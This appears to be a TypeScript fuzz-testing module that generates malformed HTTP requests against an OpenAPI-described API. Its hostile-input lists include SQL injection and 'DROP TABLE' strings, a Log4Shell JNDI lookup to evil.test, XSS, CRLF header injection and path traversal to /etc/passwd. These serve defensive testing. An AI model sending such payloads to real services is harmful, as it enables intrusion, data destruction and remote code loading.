import fc from 'fast-check';
import { type OpenApi, type Operation, resolve, type Schema } from './openapi';

/** A request as it goes over the wire. */
export interface FuzzedRequest {
  readonly method: string;
  /** With its query, and every character fit for a request line. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: Buffer;
  /** What it is a request of; undefined when its method or path is not a documented one. */
  readonly operation?: Operation;
}

/** What real requests are made of, beside what the document says. */
export interface FuzzPools {
  readonly userIds: readonly string[];
  readonly transactionIds: readonly string[];
  readonly groupIds: readonly string[];
  readonly holdIds: readonly string[];
  readonly webhookIds: readonly string[];
  /** Of assets that nothing else is done with: they may be paused. */
  readonly symbols: readonly string[];
  readonly tokens: readonly string[];
}

/** Each has broken somebody's parser, query, log or page. */
const HOSTILE_TEXTS = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\u202etxt.exe',
  '\ufeff',
  '\u{1f4a9}'.repeat(100),
  'x'.repeat(300),
  'x'.repeat(5_000),
  '1'.repeat(400),
  '../../etc/passwd',
  '..%2f..%2f',
  '%00',
  '%',
  "' OR '1'='1",
  "'; DROP TABLE wallets; --",
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '+1',
  '-0',
  '0',
  '0.00000',
  '0x10',
  '1e400',
  '1e-7',
  '1.',
  '.5',
  '1_000',
  '٣',
  '９',
  '9223372036854775807',
  '9223372036854775808',
  '99999999999999999999999999',
  '0.000000000000000001',
  '00000000-0000-0000-0000-000000000000',
  '00000000-0000-0000-0000-000000000001',
  'ISSUE',
  '2026-02-30T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '0000-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
];

const HOSTILE_HEADERS: Record<string, string>[] = [
  { 'Content-Type': 'text/plain' },
  { 'Content-Type': 'application/x-www-form-urlencoded' },
  { 'Content-Type': 'application/json; charset=utf-16' },
  { 'Content-Type': 'multipart/form-data; boundary=x' },
  { 'Content-Type': ';' },
  { 'Content-Encoding': 'gzip' },
  { Accept: 'text/html' },
  { Accept: 'application/xml;q=2' },
  { 'Accept-Encoding': 'br, *;q=0' },
  { Authorization: 'Bearer nonsense' },
  { Authorization: 'Bearer a.b.c' },
  { Authorization: 'Basic Og==' },
  { Authorization: '' },
  { 'Idempotency-Key': '' },
  { 'Idempotency-Key': 'a b' },
  { 'Idempotency-Key': '"quoted"' },
  { 'Idempotency-Key': '\xff\xfe' },
  { 'Idempotency-Key': 'k'.repeat(256) },
  { 'X-Request-Id': 'x'.repeat(1_000) },
  { 'X-Request-Id': '${jndi:ldap://evil.test/a}' },
  { 'X-Forwarded-For': '127.0.0.1, \xff' },
  { 'X-HTTP-Method-Override': 'DELETE' },
  { traceparent: '00-zz' },
  { Origin: 'https://evil.test' },
  { Range: 'bytes=0-' },
  { 'If-None-Match': '*' },
  { Expect: '100-continue' },
  { Cookie: 'a=b' },
  { 'X-Large': 'x'.repeat(10_000) },
];

const hostileText = fc.oneof(fc.constantFrom(...HOSTILE_TEXTS), fc.string({ unit: 'binary', maxLength: 40 }));

const deep = (depth: number) => Array.from({ length: depth }).reduce<unknown>((inner) => ({ a: [inner] }), 1);

const hostileValue = fc.oneof(
  hostileText,
  fc.constantFrom(null, true, false, [], {}, [[]], 0, -1, 0.1, 1e21, 1e308, 2 ** 53, deep(7), deep(20), deep(500)),
  fc.jsonValue(),
);

/** What real requests are made of, by the names of their members. */
function known(name: string, pools: FuzzPools): fc.Arbitrary<unknown> | undefined {
  switch (name) {
    case 'userId':
    case 'fromUserId':
    case 'toUserId':
      return fc.constantFrom(...pools.userIds);
    case 'transactionId':
      return fc.constantFrom(...pools.transactionIds);
    case 'groupId':
      return fc.constantFrom(...pools.groupIds);
    case 'holdId':
      return fc.constantFrom(...pools.holdIds);
    case 'webhookId':
      return fc.constantFrom(...pools.webhookIds);
    case 'url':
      return fc.constantFrom(
        'https://127.0.0.1:9/events',
        'https://127.0.0.1:9/',
        'http://127.0.0.1:9/',
        'https://10.0.0.1/',
      );
    case 'assets':
      return fc.constantFrom(['GOLD'], ['GOLD', 'DIAMOND'], ['SILVER']);
    case 'below':
      return fc.constantFrom('50', '0.5', 7, null);
    case 'asset':
    case 'assetSymbol':
      return fc.constantFrom('GOLD', 'GOLD', 'gold', 'DIAMOND', 'DIAMOND', 'SILVER');
    case 'symbol':
      return fc.oneof(fc.constantFrom(...pools.symbols), fc.stringMatching(/^[A-Z]{6,8}$/));
    case 'amount':
      return fc.oneof(fc.constantFrom('1', '0.5', '20', '999', 3, 0.25), fc.integer({ min: 1, max: 50 }));
    case 'gte':
    case 'lte':
      return fc.constantFrom('0', '100', '1000000', 5);
    case 'max':
    case 'SPEND':
    case 'CREDIT':
    case 'SEND':
      return fc.constantFrom('0', '1000', '1000000', 50);
    case 'timeZone':
      return fc.constantFrom('Europe/Berlin', 'UTC', 'Mars/Olympus');
    case 'idempotencyKey':
      return someKey;
    case 'cursor':
      return fc.constantFrom('e30.AAAA', 'next');
    default:
      return undefined;
  }
}

const someKey = fc.oneof(fc.uuid(), fc.uuid(), fc.constantFrom('again', 'and-again', 'once-more'));

/** A value as the document wants it. */
function valid(document: OpenApi, name: string, given: Schema, pools: FuzzPools): fc.Arbitrary<unknown> {
  const schema = resolve(document, given) as Schema & { format?: string; minimum?: number };
  const within = (inner: string, part: Schema) => valid(document, inner, part, pools);
  if (schema.oneOf) return fc.oneof(...schema.oneOf.map((part) => within(name, part)));
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const real = known(name, pools);
  if (real) return real;
  if (schema.format === 'date-time') return fc.constantFrom('2026-01-01T00:00:00Z', '2100-01-01T00:00:00+02:00');
  if (schema.properties) {
    const members = Object.entries(schema.properties).map(([inner, part]) => [inner, within(inner, part)] as const);
    return fc.record(Object.fromEntries(members), { requiredKeys: schema.required ?? [] });
  }
  switch (schema.type) {
    case 'array':
      return fc.array(within(name, schema.items!), { minLength: 1, maxLength: 4 });
    case 'integer':
      return fc.integer({ min: schema.minimum ?? 0, max: 8 });
    case 'boolean':
      return fc.boolean();
    case 'object':
      return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue(), { maxKeys: 3 });
    default:
      return fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 });
  }
}

/** Everything as it should be, or one to three things that are not. */
export function fuzzedRequest(document: OpenApi, pools: FuzzPools): fc.Arbitrary<FuzzedRequest> {
  const operations = Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) => ({ path, method: method.toUpperCase(), operation })),
  );
  // What has a body can be wrong in more ways than all of the others together.
  const weighed = operations.map((one) => ({ weight: one.operation.requestBody ? 6 : 1, arbitrary: fc.constant(one) }));
  return fc.oneof(...weighed).chain(({ path, method, operation }) => {
    const parameters = operation.parameters ?? [];
    const among = (place: string) =>
      Object.fromEntries(
        parameters
          .filter((parameter) => parameter.in === place)
          .map(({ name, schema = {} }) => [name, valid(document, name, schema, pools)]),
      );
    const bodySchema = operation.requestBody?.content['application/json']?.schema;
    const body = bodySchema ? valid(document, 'body', bodySchema, pools) : fc.constant(undefined);
    return fc
      .record({
        pathParameters: fc.record(among('path')),
        // With many of them hardly a request is right in all.
        query: fc.oneof(fc.constant({}), fc.record(among('query'), { requiredKeys: [] })),
        // A copy, which may be changed.
        body: body.map((value) => structuredClone(value) as Record<string, unknown> | undefined),
        token: fc.constantFrom(...pools.tokens),
        key: someKey,
        mutations: fc.oneof(fc.constant([]), fc.array(mutation(), { minLength: 1, maxLength: 3 })),
      })
      .map(({ token, key, mutations, ...parts }) => {
        const draft: Draft = {
          method,
          pattern: path,
          operation,
          ...parts,
          headers: {
            Authorization: `Bearer ${token}`,
            ...(bodySchema && { 'Idempotency-Key': key, 'Content-Type': 'application/json' }),
          },
          extraQuery: '',
        };
        for (const mutate of mutations) mutate(draft);
        return finish(draft);
      });
  });
}

interface Draft {
  method: string;
  pattern: string;
  operation: Operation | undefined;
  pathParameters: Record<string, unknown>;
  query: Record<string, unknown>;
  extraQuery: string;
  headers: Record<string, string>;
  body: Record<string, unknown> | undefined;
  /** Instead of `body`: what is no JSON object any more. */
  text?: string | Buffer;
}

type Mutation = (draft: Draft) => void;

function mutation(): fc.Arbitrary<Mutation> {
  const pick = (record: object, index: number) => Object.keys(record)[index % Math.max(1, Object.keys(record).length)];
  const change = (part: 'pathParameters' | 'query', value: fc.Arbitrary<unknown>) =>
    fc.tuple(fc.nat(20), value).map(([index, hostile]): Mutation => (draft) => {
      const name = pick(draft[part], index);
      if (name !== undefined) draft[part] = { ...draft[part], [name]: hostile };
    });
  /** Somewhere in the body: at the top as well as in an operation of an item. */
  const within = (body: object | undefined, at: number) => {
    const objects = body ? objectsIn(body) : [];
    return objects[at % Math.max(1, objects.length)];
  };
  const changeBody = fc.tuple(fc.nat(50), fc.nat(20), fc.oneof(hostileValue, hostileText)).map(([at, index, value]): Mutation => (draft) => {
    const place = within(draft.body, at);
    const name = pick(place ?? {}, index);
    // A copy: the next change must not find it in two places, or within itself.
    if (place && name !== undefined) place[name] = structuredClone(value);
  }); // prettier-ignore
  const leaveOut = fc.tuple(fc.nat(50), fc.nat(20)).map(([at, index]): Mutation => (draft) => {
    const place = within(draft.body, at);
    const name = pick(place ?? {}, index);
    if (place && name !== undefined) Reflect.deleteProperty(place, name);
  });
  const add = fc.tuple(fc.nat(50), hostileText, hostileValue).map(([at, name, value]): Mutation => (draft) => {
    const place = within(draft.body, at);
    const shape = { enumerable: true, configurable: true, writable: true };
    if (place) Object.defineProperty(place, name, { value: structuredClone(value), ...shape });
  });
  const query = fc.tuple(hostileText, hostileText).map(([name, value]): Mutation => (draft) => {
    draft.extraQuery += `&${encode(name)}=${encode(value)}`;
  });
  const twice = fc.nat(20).map((index): Mutation => (draft) => {
    const name = pick(draft.query, index);
    if (name !== undefined) draft.extraQuery += `&${name}=${encode(String(draft.query[name]))}`;
  });
  const header = fc.constantFrom(...HOSTILE_HEADERS).map((hostile): Mutation => (draft) => {
    draft.headers = { ...draft.headers, ...hostile };
  });
  const method = fc
    .constantFrom('HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'POST', 'GET', 'TRACE')
    .map((other): Mutation => (draft) => {
      // A HEAD is answered as its GET, without the body.
      if (other !== draft.method && (other !== 'HEAD' || draft.method !== 'GET')) draft.operation = undefined;
      draft.method = other;
    });
  const path = fc.tuple(fc.nat(200), hostileText).map(([at, hostile]): Mutation => (draft) => {
    draft.pattern = `${draft.pattern.slice(0, at)}${encode(hostile)}${draft.pattern.slice(at)}`;
    draft.operation = undefined;
  });
  const bytes = fc
    .tuple(fc.nat(400), fc.uint8Array({ maxLength: 4 }), fc.boolean())
    .map(([at, replacement, truncate]): Mutation => (draft) => {
      if (!draft.body) return;
      const text = Buffer.from(JSON.stringify(draft.body));
      draft.text = Buffer.concat([text.subarray(0, at), replacement, truncate ? Buffer.of() : text.subarray(at + 1)]);
    });
  const instead = fc
    .oneof(
      hostileValue.map((value) => JSON.stringify(value)),
      fc.constantFrom('', '{', '[[[', '['.repeat(5_000), '{"a":'.repeat(5_000), '{"__proto__":{}}', ' '.repeat(40_000)),
    )
    .map((text): Mutation => (draft) => {
      if (draft.body) draft.text = text;
    });
  return fc.oneof(
    { weight: 6, arbitrary: changeBody },
    { weight: 3, arbitrary: change('query', hostileText) },
    { weight: 2, arbitrary: change('pathParameters', hostileText) },
    { weight: 2, arbitrary: leaveOut },
    { weight: 2, arbitrary: add },
    { weight: 1, arbitrary: query },
    { weight: 1, arbitrary: twice },
    { weight: 3, arbitrary: header },
    { weight: 1, arbitrary: method },
    { weight: 1, arbitrary: path },
    { weight: 2, arbitrary: bytes },
    { weight: 2, arbitrary: instead },
  );
}

/** The value itself, and every object in it. */
function objectsIn(value: unknown): Record<string, unknown>[] {
  if (typeof value !== 'object' || value === null) return [];
  const inner = Object.values(value).flatMap(objectsIn);
  return Array.isArray(value) ? inner : [value as Record<string, unknown>, ...inner];
}

function finish(draft: Draft): FuzzedRequest {
  let { operation } = draft;
  const filled = draft.pattern.replace(/\{(\w+)\}/g, (_all, name: string) => {
    const value = encode(String(draft.pathParameters[name]));
    // A parameter that is empty, or longer than the router takes, makes another path of it.
    if (value === '' || value.length > 100 || !isDecodable(value)) operation = undefined;
    return value;
  });
  const query = Object.entries(draft.query).map(([name, value]) => `&${name}=${encode(String(value))}`);
  const path = `${filled}?${query.join('')}${draft.extraQuery}`;
  const body = draft.text ?? (draft.body && JSON.stringify(draft.body));
  return {
    method: draft.method,
    path: path.length > 12_000 ? path.slice(0, 12_000).replace(/%.?$/, '') : path,
    headers: draft.headers,
    ...(body !== undefined && { body: Buffer.from(body) }),
    ...(operation && { operation }),
  };
}

/** Percent-encoded where a request line takes it in no other way; what is encoded already stays as it is. */
function encode(text: string): string {
  return text.toWellFormed().replace(/[^\w.~%:;,'"<>{}$()*!@+-]/gu, (character) => encodeURIComponent(character));
}

/** What cannot be decoded is no path at all: the router gives up before it looks for a route. */
function isDecodable(text: string): boolean {
  try {
    decodeURIComponent(text);
    return true;
  } catch {
    return false;
  }
}
